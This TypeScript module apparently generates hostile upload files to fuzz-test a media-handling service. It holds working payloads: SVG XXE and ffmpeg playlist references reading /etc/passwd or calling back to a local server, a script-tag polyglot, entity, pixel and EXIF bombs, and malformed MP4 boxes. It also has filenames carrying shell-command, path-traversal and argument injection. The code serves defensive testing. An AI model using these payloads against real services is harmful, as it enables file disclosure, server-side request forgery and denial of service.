import { deflateSync } from 'node:zlib';
import { box, chunk, crafted } from './craft.js';
import { SPOILED_INDEXES } from './indexes.js';
import { type Random, seeded } from './random.js';

/** A file as somebody might upload it to do harm. */
export interface HostileFile {
  /** As the uploader calls it. */
  name: string;
  kind: string;
  bytes: Buffer;
}

/** Good files to spoil, and where a file that calls home should call. */
export interface Ingredients {
  mp4: Buffer;
  webm: Buffer;
  jpeg: Buffer;
  png: Buffer;
  /** `http://127.0.0.1:port` */
  home: string;
}

type Maker = (good: Ingredients, random: Random) => Omit<HostileFile, 'kind'>;

const whole = ({ mp4, webm, jpeg, png }: Ingredients) => [mp4, webm, jpeg, png];
const NAMES = ['clip.mp4', 'photo.jpg', '../../etc/cron.d/x', '$(touch owned).mp4', '-i.mp4', 'a;b|c.png', 'ü ​.jpg'];
const m3u8 = (url: string) => `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${url}\n#EXT-X-ENDLIST\n`;

const MAKERS: Record<string, Maker> = {
  truncated: (good, random) => {
    const bytes = random.pick(whole(good));
    return { name: random.pick(NAMES), bytes: bytes.subarray(0, random.below(bytes.length)) };
  },
  flipped: (good, random) => {
    const bytes = Buffer.from(random.pick(whole(good)));
    for (let i = 0; i < 1 + random.below(200); i++) bytes[random.below(bytes.length)] = random.below(256);
    return { name: random.pick(NAMES), bytes };
  },
  polyglot: (good, random) => {
    const [a, b] = [random.pick(whole(good)), random.pick(whole(good))];
    const middle = Buffer.from(`<script src="${good.home}/x.js"></script>PK\x03\x04%PDF-1.7`);
    return { name: 'both.mp4.jpg.html', bytes: Buffer.concat([a.subarray(0, random.below(a.length)), middle, b]) };
  },
  playlist: ({ home }, random) => {
    const url = random.pick([`${home}/secret.ts`, 'file:///etc/passwd', '/etc/passwd', `concat:${home}/a|${home}/b`]);
    const concat = `ffconcat version 1.0\nfile '${url}'\n`;
    return { name: 'film.mp4', bytes: Buffer.from(random.pick([m3u8(url), concat])) };
  },
  'playlist behind a box': ({ home }) => ({
    name: 'film.mp4',
    bytes: Buffer.concat([box('ftyp', Buffer.from('isom\0\0\0\0isom')), Buffer.from(m3u8(`${home}/a.ts`))]),
  }),
  'external reference': ({ mp4, home }) => ({
    name: 'linked.mov',
    bytes: crafted(mp4, 'url ', Buffer.concat([Buffer.from([0, 0, 0, 0]), Buffer.from(`${home}/film.mov\0`)])),
  }),
  svg: ({ home }, random) => {
    const xxe = `<!DOCTYPE svg [<!ENTITY x SYSTEM "${random.pick([`${home}/x`, 'file:///etc/passwd'])}">]>`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600"><image width="800" height="600" xlink:href="${home}/a.png"/><text>&x;</text></svg>`;
    return { name: 'photo.png', bytes: Buffer.from(`<?xml version="1.0"?>${xxe}${svg}`) };
  },
  'entity bomb': () => {
    const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
    return { name: 'photo.svg', bytes: Buffer.from(`<!DOCTYPE svg [<!ENTITY l0 "x">${lol}]><svg>&l9;</svg>`) };
  },
  'pixel bomb': (_good, random) => {
    const side = 20_000 + random.below(40_000);
    const header = Buffer.alloc(13);
    header.writeUInt32BE(side, 0);
    header.writeUInt32BE(side, 4);
    header.set([8, 2, 0, 0, 0], 8);
    const data = deflateSync(Buffer.alloc(2_000_000), { level: 9 });
    const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const bytes = Buffer.concat([start, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
    return { name: 'poster.png', bytes };
  },
  'exif bomb': ({ jpeg }, random) => {
    // A directory that names itself as the next one, with a count that no file holds.
    const tiff = Buffer.alloc(60_000, random.below(256));
    tiff.write('MM\0*\0\0\0\x08', 0, 'latin1');
    tiff.writeUInt16BE(0xffff, 8);
    const exif = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
    const marker = Buffer.from([0xff, 0xe1, 0, 0]);
    marker.writeUInt16BE(exif.length + 2, 2);
    return { name: 'photo.jpg', bytes: Buffer.concat([jpeg.subarray(0, 2), marker, exif, jpeg.subarray(2)]) };
  },
  'endless duration': ({ mp4 }) => {
    const bytes = Buffer.from(mp4);
    for (const name of ['mvhd', 'tkhd', 'mdhd']) {
      const at = bytes.indexOf(name, 0, 'latin1');
      if (at > 0) bytes.fill(0xff, at + 12, at + 28);
    }
    return { name: 'endless.mp4', bytes };
  },
  'endless tables': ({ mp4 }) => {
    const bytes = Buffer.from(mp4);
    for (const name of ['stts', 'stsz', 'stsc', 'stco']) {
      const at = bytes.indexOf(name, 0, 'latin1');
      if (at > 0) bytes.writeUInt32BE(0x7fffffff, at + 8);
    }
    return { name: 'tables.mp4', bytes };
  },
  'many streams': ({ mp4 }, random) => {
    const at = mp4.indexOf('trak', 0, 'latin1') - 4;
    const track = mp4.subarray(at, at + mp4.readUInt32BE(at));
    const copies = 2_000 + random.below(8_000);
    const moov = box('moov', Buffer.concat(Array.from({ length: copies }, () => track)));
    return { name: 'streams.mp4', bytes: Buffer.concat([box('ftyp', Buffer.from('isom\0\0\0\0isom')), moov]) };
  },
  'nested boxes': () => {
    let bytes = box('free', Buffer.alloc(8));
    for (let depth = 0; depth < 3_000; depth++) bytes = box('moov', bytes);
    return { name: 'nested.mp4', bytes };
  },
  ...Object.fromEntries(
    Object.entries(SPOILED_INDEXES).map(([kind, spoil]): [string, Maker] => [
      kind,
      ({ mp4 }, random) => ({ name: 'index.mp4', bytes: spoil(mp4, random) }),
    ]),
  ),
  noise: (_good, random) => ({ name: random.pick(NAMES), bytes: random.bytes(random.below(50_000)) }),
};

export const HOSTILE_KINDS = Object.keys(MAKERS);

/** The same seed gives the same files; kinds take turns. */
export function* hostileFiles(good: Ingredients, seed: number, count: number): Generator<HostileFile> {
  const random = seeded(seed);
  for (let i = 0; i < count; i++) {
    const kind = HOSTILE_KINDS[i % HOSTILE_KINDS.length] ?? 'noise';
    const made = MAKERS[kind]?.(good, random);
    if (made) yield { ...made, kind };
  }
}
